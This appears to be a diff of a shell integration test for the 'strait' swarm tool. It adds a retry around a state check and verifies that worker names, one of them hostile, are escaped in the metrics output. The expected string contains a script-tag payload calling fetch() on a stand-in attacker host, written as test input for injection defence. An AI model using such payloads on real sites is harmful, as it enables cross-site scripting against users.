@@ -22,10 +22,13 @@ strait join "$(cat invite)" --keys keys-2 --name "$long" >/dev/null 2>join-2.err
 strait join "$(cat invite)" --keys keys-3 --name spare >/dev/null 2>join-3.err </dev/null &
 wait_until 120 "steps" has_reached_step run 3 || fail "the run ended: $(tail -n 3 host.err)"
 
-curl -sS -m 20 "$origin/api/v1/state" >state.json
-jq -e --arg evil "$evil" '.swarm.workers | length == 3 and any(.[]; .name == $evil) and
-    all(.[]; .name | length < 100) and ([.[] | select(.stage >= 0)] | length == 2)' state.json >/dev/null ||
-    fail "workers: $(jq -c '.swarm.workers' state.json | cut -c 1-600)"
+# The state follows the run by about a second.
+shows_workers() {
+    curl -sS -m 20 "$origin/api/v1/state" >state.json
+    jq -e --arg evil "$evil" '.swarm.workers | length == 3 and any(.[]; .name == $evil) and
+        all(.[]; .name | length < 100) and ([.[] | select(.stage >= 0)] | length == 2)' state.json >/dev/null
+}
+wait_until 60 "workers" shows_workers || fail "workers: $(jq -c '.swarm.workers' state.json | cut -c 1-600)"
 jq -e '[.events[].text] | any(test("joined"))' state.json >/dev/null || fail "events: $(jq -c .events state.json)"
 curl -sS -m 20 "$origin/metrics" >metrics.txt
 grep -qF 'worker="<script>fetch(\"http://evil.example/\")</script>\"\\"' metrics.txt ||
